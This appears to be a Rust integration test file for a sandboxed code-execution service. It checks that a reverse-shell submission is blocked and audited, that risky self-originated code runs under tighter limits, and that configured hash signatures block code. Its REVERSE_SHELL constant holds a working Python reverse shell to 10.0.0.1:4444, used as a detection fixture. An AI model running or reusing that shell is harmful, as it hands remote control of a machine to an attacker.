//! BLOCKED code never runs: the request ends `blocked` with its findings, an event goes out
//! on `cordon.v1.events.blocked.<client>`, and no container is ever created for it. The same code
//! written by the assistant itself (`origin: self`) is HIGH instead, and runs with tighter
//! limits in the sandbox (which has no network to reach anyway).

mod pipeline_support;

use std::time::Duration;

use cordon::client::Client;
use cordon::protocol::assessor::{BlockedEvent, Level};
use cordon::protocol::exec::Status;
use futures::StreamExt;
use pipeline_support::*;

const REVERSE_SHELL: &str = r#"import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.0.0.1", 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
"#;

#[tokio::test]
async fn a_reverse_shell_is_blocked_with_its_findings_and_never_runs() {
    let nats = Nats::start();
    let node = Node::up(&nats, "blocked", &test_config(""));
    let client = client(&nats).await;
    let bus = async_nats::connect(&nats.url).await.unwrap();
    let mut events = bus
        .subscribe(
            cordon::protocol::Subject::EventsBlocked {
                client: client.name().to_string(),
            }
            .to_subject(),
        )
        .await
        .unwrap();
    let id = Client::new_request_id();
    let result = client
        .run(
            &id,
            &request(REVERSE_SHELL, "trusted"),
            Duration::from_secs(60),
        )
        .await
        .unwrap();
    assert_eq!(result.status, Status::Blocked, "{result:?}");
    assert_eq!(result.exit_code, None);
    let assessment = result
        .assessment
        .expect("findings come with a blocked result");
    assert_eq!(assessment.level, Level::Blocked);
    let reverse_shell = assessment
        .findings
        .iter()
        .find(|f| f.severity == Level::Blocked)
        .expect("a BLOCKED finding");
    assert!(!reverse_shell.message.is_empty() && reverse_shell.line > 0);
    let event = tokio::time::timeout(Duration::from_secs(5), events.next())
        .await
        .unwrap()
        .unwrap();
    let event = cordon::protocol::decode::<BlockedEvent>(&event.payload).unwrap();
    assert_eq!(event.request_id, id);
    let kinds = audit_kinds(&node.audit_dir(), &id);
    assert!(
        kinds.contains(&"assessed".to_string()) && kinds.contains(&"finished".to_string()),
        "{kinds:?}"
    );
    assert!(
        !kinds.iter().any(|k| k.starts_with("container")),
        "a blocked request got a container: {kinds:?}"
    );
    assert!(containers_of(&node.host).is_empty());
}

#[tokio::test]
async fn the_assistants_own_risky_code_is_high_and_runs_with_tighter_limits() {
    let nats = Nats::start();
    let _node = Node::up(&nats, "self-origin", &test_config(""));
    let client = client(&nats).await;
    let mut own = request(REVERSE_SHELL, "untrusted");
    own.origin = Some("self".into());
    let result = run_request(&client, &own).await;
    assert_eq!(result.status, Status::Completed, "{result:?}");
    assert_ne!(
        result.exit_code,
        Some(0),
        "with no network the connect fails inside the sandbox"
    );
    assert_eq!(result.assessment.unwrap().level, Level::High);
    let benign = run(&client, "print('plain')").await;
    let (tight, normal) = (result.limits.unwrap(), benign.limits.unwrap());
    assert!(
        tight.memory_bytes < normal.memory_bytes
            && tight.cpus < normal.cpus
            && tight.timeout_ms < normal.timeout_ms
    );
}

#[tokio::test]
async fn a_known_threat_signature_from_config_blocks_otherwise_harmless_code() {
    let code = "print('looks harmless')\n";
    let signature = cordon::assessor::normalised_code_sha256(code);
    let config = test_config(&format!(
        "[security.signatures]\ncode_sha256 = [\"{signature}\"]\n"
    ));
    let nats = Nats::start();
    let _node = Node::up(&nats, "signature", &config);
    let client = client(&nats).await;
    let result = run(&client, code).await;
    assert_eq!(result.status, Status::Blocked, "{result:?}");
    let other = run(&client, "print('something else')\n").await;
    assert_eq!(other.status, Status::Completed);
}
